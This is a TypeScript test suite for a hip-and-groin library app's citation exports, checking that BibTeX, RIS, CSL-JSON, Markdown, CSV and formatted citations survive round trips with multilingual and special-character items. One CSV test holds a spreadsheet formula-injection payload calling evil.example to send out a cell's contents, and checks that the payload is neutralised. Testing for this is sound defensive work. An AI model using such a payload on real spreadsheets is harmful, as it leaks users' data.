// Exports and citations (core/citations.ts), proved by real parsers: every BibTeX export parsed
// back by Better BibTeX's parser (@retorquere/bibtex-parser), every RIS export by astrocite's,
// every CSL-JSON export validated against the CSL-JSON schema, and the round trip checked for
// loss (title, authors, date, URL, DOI, container, language) on a set of items chosen to break
// formats: TeX's and Markdown's special characters, quotes, braces, accents written both ways,
// Cyrillic, Greek, Arabic, Chinese, organisations as authors.
import { parse as parseBibtex } from '@retorquere/bibtex-parser';
import * as astrocite from 'astrocite-ris';
import { describe, expect, it } from 'vitest';
import { articleCsl, sourcesCsl } from '../../core/citation-items';
import { citeItem, EXPORT_FORMATS, exportEntries, exportEntriesOf, type ExportEntry, type ExportFormat } from '../../core/citations';
import { knownArticles, parseImport } from '../../core/collection-import';
import { newArticleItem } from '../../core/collection';
import type { CslItem, CslName } from '../../core/csl';
import { articles, articlesById } from '../../core/full-library';
import { cslValidator } from './csl-schema';

const validate = cslValidator();
const adductor = articlesById.get('adductor-tendinopathy')!;

export const TRICKY: ExportEntry[] = [
  {
    csl: {
      id: 'https://example.org/a?b=1&c=2',
      type: 'webpage',
      title: 'Hüftschmerz & {braces} "straight" “curly” ‘single’ — 50% $5 C# a_b ~x^2 back\\slash <script>x</script> *stars* [link](x)',
      author: [{ family: 'Müller', given: 'Zoë' }, { literal: 'NHS England & Co' }, { family: 'van Beethoven', given: 'Ludwig' }, { family: 'O’Brien-Łukasz', given: 'Ångström' }],
      'container-title': 'Ärzte & Zeitung {x}',
      issued: { 'date-parts': [[2024, 3, 5]] },
      accessed: { 'date-parts': [[2025, 1, 2]] },
      URL: 'https://example.org/a?b=1&c=2%20_x~y#frag',
      DOI: '10.1002/(SICI)1097-4636(199802)39:2<331::AID-JBM22>3.0.CO;2-T',
      language: 'de',
    },
    note: 'My note, with "quotes", a comma\nand a second line; = not a formula',
    tags: ['hip', 'Deutsch'],
  },
  {
    csl: { id: 'ru', type: 'article-journal', title: 'Боль в бедре: обзор', author: [{ family: 'Иванов', given: 'Пётр' }], 'container-title': 'Журнал травматологии', issued: { 'date-parts': [[2020]] }, DOI: '10.1234/abc.5', language: 'ru', volume: '3', issue: '2', page: '1-10' },
  },
  { csl: { id: 'ar', type: 'webpage', title: 'ألم الورك عند الرياضيين', author: [{ literal: 'وزارة الصحة' }], 'container-title': 'موقع الصحة', issued: { 'date-parts': [[2021, 7]] }, URL: 'https://example.org/ar/ألم', language: 'ar' } },
  { csl: { id: 'zh', type: 'webpage', title: '髋关节疼痛的原因', author: [{ literal: '肖春芳' }], 'container-title': '光明网', issued: { 'date-parts': [[2019, 12, 31]] }, URL: 'https://example.org/zh', language: 'zh-CN' } },
  // Greek, and Vietnamese written with combining accents (NFD), as some pages store it.
  { csl: { id: 'el', type: 'article-journal', title: 'Πόνος στο ισχίο — Đau hông'.normalize('NFD'), author: [{ family: 'Nguyễn'.normalize('NFD'), given: 'Văn An'.normalize('NFD') }, { family: 'Παπαδόπουλος', given: 'Γιώργος' }], 'container-title': 'Ιατρική Επιθεώρηση', issued: { 'date-parts': [[2018, 1, 9]] }, language: 'el' } },
  { csl: { id: 'report', type: 'report', title: '🦴 Bone & joint health: 100% of what you need', author: [{ literal: 'Versus Arthritis' }], publisher: 'Versus Arthritis', issued: { 'date-parts': [[2019, 7]] }, URL: 'https://example.org/report?id=1&x=%7E', language: 'en-GB' } },
  { csl: articleCsl(adductor), note: 'For the groin essay', tags: ['groin'] },
  ...sourcesCsl(adductor).map((csl) => ({ csl })),
];

// ---- what the round trip must keep ----

interface Core {
  title: string;
  authors: string[];
  date: number[];
  url: string;
  doi: string;
  container: string;
  language: string;
}

const nfc = (s: string | undefined) => (s ?? '').normalize('NFC').trim();
const href = (url: string | undefined) => (url ? new URL(url).href : '');
const nameText = (n: Partial<CslName>) => nfc(n.literal ?? [n.given, n['non-dropping-particle'], n.family].filter(Boolean).join(' '));

function core(csl: CslItem): Core {
  return {
    title: nfc(csl.title),
    authors: (csl.author ?? []).map(nameText),
    // RIS writes "2020///" for a year alone: the empty parts are no part of the date.
    date: (csl.issued?.['date-parts']?.[0] ?? []).filter((p) => p !== '').map(Number),
    // The same address, however its non-ASCII characters are written.
    url: href(csl.URL),
    doi: csl.DOI ?? '',
    container: nfc(csl['container-title']),
    language: csl.language ?? '',
  };
}
const expected = TRICKY.map((e) => core(e.csl));

const exported = Object.fromEntries((Object.keys(EXPORT_FORMATS) as ExportFormat[]).map((f) => [f, exportEntries(TRICKY, f)])) as Record<ExportFormat, string>;

describe('BibTeX export, read back by Better BibTeX’s parser', () => {
  const library = parseBibtex(exported.bibtex, { sentenceCase: false });

  it('parses without an error, one entry per item, each with its own key', () => {
    expect(library.errors).toEqual([]);
    expect(library.entries).toHaveLength(TRICKY.length);
    expect(new Set(library.entries.map((e) => e.key)).size).toBe(TRICKY.length);
    expect(library.entries.every((e) => /^[A-Za-z][A-Za-z0-9]*$/.test(e.key))).toBe(true);
  });

  it('loses no field of any item', () => {
    const read = library.entries.map((entry): Core => {
      const f = entry.fields as Record<string, unknown>;
      const text = (key: string) => nfc(typeof f[key] === 'string' ? (f[key] as string) : '');
      return {
        title: text('title'),
        authors: ((f.author ?? []) as { name?: string; firstName?: string; prefix?: string; lastName?: string }[]).map((a) => nfc(a.name ?? [a.firstName, a.prefix, a.lastName].filter(Boolean).join(' '))),
        date: text('date') ? text('date').split('-').map(Number) : [],
        url: href(text('url')),
        doi: text('doi'),
        container: text('journaltitle') || text('booktitle'),
        language: text('language'),
      };
    });
    expect(read).toEqual(expected);
  });

  it('keeps the reader’s note (a line break is a space to TeX) and tags', () => {
    const f = library.entries[0]!.fields as Record<string, unknown>;
    expect(f.annotation).toBe(TRICKY[0]!.note!.replace(/\s+/g, ' '));
    expect((f.keywords as string[]).sort()).toEqual(['Deutsch', 'hip']);
  });
});

describe('RIS export, read back by astrocite’s RIS parser', () => {
  const read = astrocite.parse(exported.ris) as unknown as CslItem[];
  const ast = astrocite.AST.parse(exported.ris);

  it('parses, one record per item, with CRLF line ends and no line wrapped', () => {
    expect(read).toHaveLength(TRICKY.length);
    expect(exported.ris.split('\r\n').every((line) => line === '' || /^[A-Z][A-Z0-9] {2}- /.test(line))).toBe(true);
    expect(exported.ris.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  it('loses no field of any item', () => {
    const got = read.map((csl, n): Core => ({
      ...core(csl),
      // Authors as written (AU lines): astrocite splits names with an ASCII-only grammar, which
      // finds nothing in a comma-less name in another script ("肖春芳"); the line itself is right.
      authors: ast.children[n]!.properties.filter((p) => p.key === 'AU').map((p) => nfc(p.value.replace(/^(.*), (.*)$/, '$2 $1'))),
    }));
    expect(got).toEqual(expected);
    // Where astrocite can split a name, it splits it as written.
    expect(read[0]!.author).toContainEqual({ family: 'van Beethoven', given: 'Ludwig' });
  });

  it('keeps the reader’s note and tags', () => {
    const props = ast.children[0]!.properties;
    expect(props.filter((p) => p.key === 'KW').map((p) => p.value)).toEqual(['hip', 'Deutsch']);
    expect(props.find((p) => p.key === 'N1')?.value).toBe(TRICKY[0]!.note!.replace(/\s+/g, ' '));
  });
});

describe('CSL-JSON export', () => {
  const items = JSON.parse(exported['csl-json']) as CslItem[];

  it('is valid against the CSL-JSON schema', () => {
    expect(validate(items), JSON.stringify(validate.errors)).toBe(true);
  });

  it('loses nothing: the items as given, the note as annote and the tags as keyword', () => {
    expect(items.map(core)).toEqual(expected);
    expect(items[0]).toEqual({ ...TRICKY[0]!.csl, annote: TRICKY[0]!.note, keyword: 'hip, Deutsch' });
  });
});

describe('the round trip through HipLens’s own import', () => {
  const known = knownArticles(articles);
  it.each(['bibtex', 'ris', 'csl-json'] as const)('brings every field of a %s export back', (format) => {
    const result = parseImport(exported[format], known);
    expect(result.ok, JSON.stringify(result)).toBe(true);
    if (!result.ok) return;
    expect(result.items).toHaveLength(TRICKY.length);
    // The HipLens article comes back as that article, with its note and tags; the rest as works.
    expect(result.items[6]).toMatchObject({ kind: 'article', articleId: 'adductor-tendinopathy', note: format === 'ris' ? '' : 'For the groin essay', tags: ['groin'] });
    const works = result.items.flatMap((item, n) => (item.kind === 'page' ? [[n, item.csl] as const] : []));
    expect(works.map(([, csl]) => core(csl))).toEqual(works.map(([n]) => expected[n]));
  });
});

describe('Markdown export', () => {
  const md = exported.markdown;

  it('lists every item once, its note and tags under it, with Markdown’s characters escaped', () => {
    expect(md.startsWith('# HipLens collection\n')).toBe(true);
    expect(md.split('\n').filter((l) => l.startsWith('- '))).toHaveLength(TRICKY.length);
    expect(md).toContain('a\\_b');
    expect(md).toContain('\\*stars\\* \\[link\\](x)');
    expect(md).toContain('\\<script\\>x\\</script\\>');
    // Addresses are autolinks, whatever they hold ("<" and ">" encoded, a closing bracket kept).
    expect(md).toContain('<https://doi.org/10.1002/(SICI)1097-4636(199802)39:2%3C331::AID-JBM22%3E3.0.CO;2-T>');
    expect(md).toContain('  - Note: My note, with "quotes", a comma\n    and a second line; = not a formula');
    expect(md).toContain('  - Tags: hip, Deutsch');
    // The journal is in italics, as APA sets it.
    expect(md).toContain('*Журнал травматологии*');
    for (const text of ['Боль в бедре', 'ألم الورك', '肖春芳', 'Παπαδόπουλος', '🦴 Bone & joint health']) expect(md).toContain(text);
  });
});

/** RFC 4180, read strictly: quoted fields, doubled quotes, CRLF between records. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
    let value = '';
    for (i++; ; i++) {
      if (i >= text.length) throw new Error('unterminated field');
      if (text[i] === '"' && text[i + 1] === '"') {
        value += '"';
        i++;
      } else if (text[i] === '"') break;
      else value += text[i];
    }
    row.push(value);
    i++;
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`expected a comma or CRLF at ${i}`);
  }
  return rows;
}

describe('CSV export', () => {
  const [bom, rest] = [exported.csv.slice(0, 1), exported.csv.slice(1)];
  const rows = readCsv(rest);
  const header = rows[0]!;
  const col = (row: string[], name: string) => row[header.indexOf(name)]!;

  it('is RFC 4180: a header and one record per item, every field quoted, after a UTF-8 byte order mark', () => {
    expect(bom).toBe('\ufeff');
    expect(rows).toHaveLength(TRICKY.length + 1);
    expect(rows.every((r) => r.length === header.length)).toBe(true);
  });

  it('keeps every field as it is, quotes, commas and line breaks included', () => {
    const data = rows.slice(1);
    expect(data.map((r) => nfc(col(r, 'Title')))).toEqual(expected.map((e) => e.title));
    expect(data.map((r) => col(r, 'DOI'))).toEqual(expected.map((e) => e.doi));
    expect(data.map((r) => col(r, 'URL'))).toEqual(TRICKY.map((e) => e.csl.URL ?? ''));
    expect(data.map((r) => col(r, 'Language'))).toEqual(expected.map((e) => e.language));
    expect(col(data[0]!, 'Authors')).toBe('Müller, Zoë; NHS England & Co; van Beethoven, Ludwig; O’Brien-Łukasz, Ångström');
    expect(col(data[0]!, 'Date')).toBe('2024-03-05');
    expect(col(data[0]!, 'Note')).toBe(TRICKY[0]!.note);
    expect(col(data[0]!, 'Citation (APA 7th edition)')).toContain('Hüftschmerz & {braces}');
  });

  it('never hands a spreadsheet a formula a page wrote', () => {
    const csv = exportEntries([{ csl: { id: 'x', type: 'webpage', title: '=HYPERLINK("https://evil.example/?"&A1,"click")' }, note: '+1' }], 'csv');
    const [row] = readCsv(csv.slice(1)).slice(1);
    expect(row![1]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
  });
});

describe('one item’s citation', () => {
  it('in APA 7th edition, Vancouver and Harvard, special characters and scripts intact', () => {
    const [web, journal] = [TRICKY[0]!.csl, TRICKY[1]!.csl];
    expect(citeItem(journal, 'apa')).toBe('Иванов, П. (2020). Боль в бедре: обзор. Журнал травматологии, 3(2), 1–10. https://doi.org/10.1234/abc.5');
    expect(citeItem(journal, 'vancouver')).toBe('Иванов П. Боль в бедре: обзор. Журнал травматологии. 2020;3(2):1–10.');
    // citation-js ships the en-US locale only, so Harvard quotes as American English does.
    expect(citeItem(journal, 'harvard')).toBe('Иванов, П. (2020) “Боль в бедре: обзор,” Журнал травматологии, 3(2), pp. 1–10. doi:10.1234/abc.5.');
    for (const style of ['apa', 'vancouver', 'harvard'] as const) {
      const text = citeItem(web, style);
      expect(text, style).toContain('Hüftschmerz & {braces}');
      expect(text, style).toContain('C# a_b ~x^2 back\\slash');
      expect(text, style).toMatch(/Müller/);
      const html = citeItem(web, style, 'html');
      // What a page wrote is text in HTML, never markup.
      expect(html, style).not.toContain('<script');
      expect(html, style).toContain('&#60;script&#62;x&#60;/script&#62;');
    }
  });

  it('cites a HipLens article as an entry in HipLens’s own library, dated by its review', () => {
    expect(citeItem(articleCsl(adductor), 'apa')).toBe('HipLens. (2026). Adductor tendinopathy. In HipLens hip and groin library. HipLens.');
    expect(citeItem(articleCsl(adductor), 'vancouver')).toBe('HipLens. Adductor tendinopathy. In: HipLens hip and groin library. HipLens; 2026.');
    expect(citeItem(sourcesCsl(adductor)[1]!, 'apa')).toBe(
      'Hölmich, P. (1999). Effectiveness of active physical training as treatment for long-standing adductor-related groin pain in athletes: randomised trial. The Lancet.',
    );
    const [item] = exportEntriesOf([{ ...newArticleItem('adductor-tendinopathy'), note: 'n', tags: ['t'] }], articlesById);
    expect(item).toEqual({ csl: articleCsl(adductor), note: 'n', tags: ['t'] });
  });

  it('cites every article of the library and each of its sources, in every style, without an error', () => {
    const all = articles.flatMap((a) => [articleCsl(a), ...sourcesCsl(a)]);
    expect(validate(all), JSON.stringify(validate.errors)).toBe(true);
    for (const format of Object.keys(EXPORT_FORMATS) as ExportFormat[]) expect(exportEntries(all.map((csl) => ({ csl })), format).length).toBeGreaterThan(1000);
  });
});
